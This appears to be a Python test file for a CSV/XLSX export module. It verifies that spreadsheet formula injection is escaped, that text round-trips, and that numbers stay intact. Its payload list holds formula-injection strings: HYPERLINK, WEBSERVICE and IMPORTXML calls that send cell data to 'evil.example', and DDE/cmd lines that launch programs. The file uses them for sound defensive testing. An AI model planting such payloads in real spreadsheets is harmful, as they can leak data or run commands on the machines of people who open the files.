"""Tables as files: no text is executed, every text comes back, numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from decimal import Decimal
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from agreements.downloads import address_as, asked_format, table_answer
from agreements.table_files import FORMULA_STARTS, Format, escaped, unescaped, write_table
from leads.intake.values import clean

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
CALLS = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    '=WEBSERVICE("https://evil.example/")',
    '=IMPORTXML("https://evil.example/","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=SUM(A1:A9)*0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "{=1+1}",
    "#N/A",
    "https://evil.example/",
    "javascript:alert(1)",
)
PREFIXES = ("", "'", "''", "\t", "\r", "\n", " ", "\xa0", "＝", "＋", "－", "＠", ";", ",", '"', "\ufeff")
PAYLOADS = list(dict.fromkeys(f"{prefix}{call}" for prefix in PREFIXES for call in CALLS))


def written(form: Format, rows, headings=("text",)) -> bytes:
    out = io.BytesIO()
    write_table(out, form, headings, rows)
    return out.read()


def sheet_of(content: bytes) -> ElementTree.Element:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))


def test_two_hundred_formulas_are_no_formula_in_a_csv_file():
    assert len(PAYLOADS) >= 200
    text = written(Format.CSV, [[payload] for payload in PAYLOADS]).decode("utf-8-sig")
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert [unescaped(cell) for cell in cells] == PAYLOADS
    executed = [cell for cell in cells if cell[0] in FORMULA_STARTS]
    assert executed == []


def test_two_hundred_formulas_are_texts_in_a_workbook():
    content = written(Format.XLSX, [[payload] for payload in PAYLOADS])
    sheet = sheet_of(content)
    assert sheet.findall(f".//{MAIN}f") == [] and sheet.findall(f".//{MAIN}hyperlink") == []
    kinds = {cell.get("t") for cell in sheet.iter(f"{MAIN}c")}
    assert kinds == {"inlineStr"}
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert not [name for name in book.namelist() if "external" in name.lower() or "_rels/sheet" in name]
    rows = list(
        load_workbook(io.BytesIO(content), read_only=True).active.iter_rows(min_row=2, values_only=True)
    )
    read = [unescaped(row[0]) for row in rows]
    assert read == [payload.replace("\r", "\n") for payload in PAYLOADS]  # XML has one kind of line end


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not here: no recalculation by it")
@pytest.mark.parametrize("form", list(Format))
def test_libreoffice_finds_no_formula_either(form, tmp_path):
    path = tmp_path / f"formulas.{form}"
    path.write_bytes(written(form, [[payload] for payload in PAYLOADS]))
    own = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"  # two at once cannot have one profile
    command = ["soffice", own, "--headless", "--convert-to", "fods", "--outdir", str(tmp_path), str(path)]
    subprocess.run(command, check=True, timeout=300)
    assert "table:formula" not in (tmp_path / "formulas.fods").read_text()


@given(st.text().map(clean))
def test_a_text_comes_back_from_either_file(text):
    (row,) = list(
        csv.reader(io.StringIO(written(Format.CSV, [[text, "x"]]).decode("utf-8-sig"), newline=""))
    )[1:]
    assert clean(row[0]) == text
    book = load_workbook(io.BytesIO(written(Format.XLSX, [[text, "x"]])), read_only=True)
    ((cell, _x),) = book.active.iter_rows(min_row=2, values_only=True)
    assert clean(cell or "") == clean("".join(letter for letter in text if letter not in "\ufffe\uffff"))


@pytest.mark.parametrize("before", ["Acme;", "Acme\n", "Acme\r\n", "a;b\n;", ";'", "\n''"])
def test_nor_is_one_where_semicolons_are_taken_for_the_ends_of_cells(before):
    payloads = [f"{before}{call};x" for call in CALLS]
    text = written(Format.CSV, [["1", payload] for payload in payloads], "nt").decode("utf-8-sig")
    assert [cell for cell in re.split("[;\r\n]", text) if cell[:1] in FORMULA_STARTS] == []
    cells = [row[1] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert [unescaped(cell) for cell in cells] == payloads


@given(st.text(alphabet="'=+-@ a\t;\n\r"))
def test_unescaping_gives_back_what_was_escaped(text):
    assert unescaped(escaped(text)) == text


def test_numbers_stay_numbers_and_what_a_workbook_cannot_hold_is_left_out():
    row = [-12, 0.5, Decimal("-1234.50"), True, None, "-12", "bell\x07\ufffe"]
    text = written(Format.CSV, [row], headings="abcdefg").decode("utf-8-sig")
    assert text.splitlines()[1] == "-12,0.5,-1234.50,True,,'-12,bell\x07\ufffe"
    book = load_workbook(io.BytesIO(written(Format.XLSX, [row], headings="abcdefg")))
    values = [cell.value for cell in book.active[2]]
    assert values == [-12, 0.5, -1234.5, True, None, "-12", "bell"]


def test_a_file_starts_with_a_mark_only_where_it_is_needed():
    assert written(Format.CSV, [["web"]]).startswith(b"text")
    assert written(Format.CSV, [["Łódź"]]).startswith(b"\xef\xbb\xbftext")
    assert written(Format.CSV, []) == b"text\r\n"


def test_a_page_s_address_is_that_of_its_files():
    assert address_as("/leads/?q=a&format=csv", Format.XLSX) == "/leads/?q=a&format=xlsx"
    assert address_as("?q=%C5%81", Format.CSV) == "?q=%C5%81&format=csv"
    assert address_as("", Format.CSV) == "?format=csv"
    assert asked_format({"format": "xlsx"}) is Format.XLSX
    assert asked_format({"format": "xml"}) is None and asked_format({}) is None
    answer = table_answer(Format.CSV, [{"name": '=HYPERLINK("x")', "gap": -1}], name="x")
    assert answer.content.decode() == 'name,gap\r\n"\'=HYPERLINK(""x"")",-1\r\n'
    assert answer.headers["Content-Disposition"] == 'attachment; filename="x.csv"'
    workbook = table_answer(Format.XLSX, [{"name": "=1", "gap": -1}], name="x")
    assert workbook.headers["Content-Type"] == Format.XLSX.content_type
